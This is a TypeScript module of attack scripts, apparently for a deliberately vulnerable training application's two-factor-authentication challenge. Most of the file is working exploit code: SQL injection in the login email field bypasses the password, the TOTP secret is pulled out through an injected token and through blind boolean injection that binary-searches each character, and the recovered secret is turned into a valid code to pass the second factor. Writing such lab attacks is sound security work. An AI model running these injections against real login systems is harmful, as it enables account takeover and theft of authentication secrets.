import type { Attack, Tools } from '#lab'
import { logInAs, ownerOf } from './injection.ts'
import { codeFor } from './totp.ts'

/** Gets past the password by injection, and past the second factor with a code for this secret. */
async function passWith({ http, expect, settings }: Tools, secret: string): Promise<void> {
  const email = `wurstbrot@${settings.domain}`
  const login = await http.post('/rest/user/login', { email: `${email}'--`, password: 'a' })
  expect(login.status === 401, `the login answered with ${login.status}`)
  const { tmpToken } = login.json<{ data: { tmpToken: string } }>().data
  const answer = await http.post('/rest/2fa/verify', { tmpToken, totpToken: await codeFor(secret) })
  expect(answer.status === 200, `the code was answered with ${answer.status}`)
}

/** Has the login write the secret into a token, in the place of the name. */
async function secretInToken(tools: Tools): Promise<string> {
  const token = await logInAs(tools, 'wurstbrot', { username: 'totpSecret', totpSecret: "''" })
  return String(ownerOf(token).username)
}

/** Asks the login for one letter of the secret at a time: a second factor is only asked for where the guess was right. */
async function secretByQuestions({ http, settings }: Tools): Promise<string> {
  const email = `wurstbrot@${settings.domain}`
  const isTrue = async (condition: string): Promise<boolean> => {
    const answer = await http.post('/rest/user/login', {
      email: `${email}' AND ${condition}--`,
      password: 'a',
    })
    return answer.text.includes('totp_token_required')
  }
  let secret = ''
  for (let place = 1; place <= 32; place++) {
    let [low, high] = ['2'.charCodeAt(0), 'Z'.charCodeAt(0)]
    while (low < high) {
      const middle = (low + high) >> 1
      if (await isTrue(`unicode(substr(totpSecret,${place},1))>${middle}`)) low = middle + 1
      else high = middle
    }
    secret += String.fromCharCode(low)
  }
  return secret
}

const challenge = 'twoFactorAuthUnsafeSecretStorageChallenge'

export const attacks: Attack[] = [
  {
    challenge,
    name: 'a UNION brings the secret out, an authenticator turns it into a code',
    run: async (tools) => passWith(tools, await secretInToken(tools)),
  },
  {
    challenge,
    name: 'the login gives the secret away letter by letter',
    run: async (tools) => passWith(tools, await secretByQuestions(tools)),
  },
]
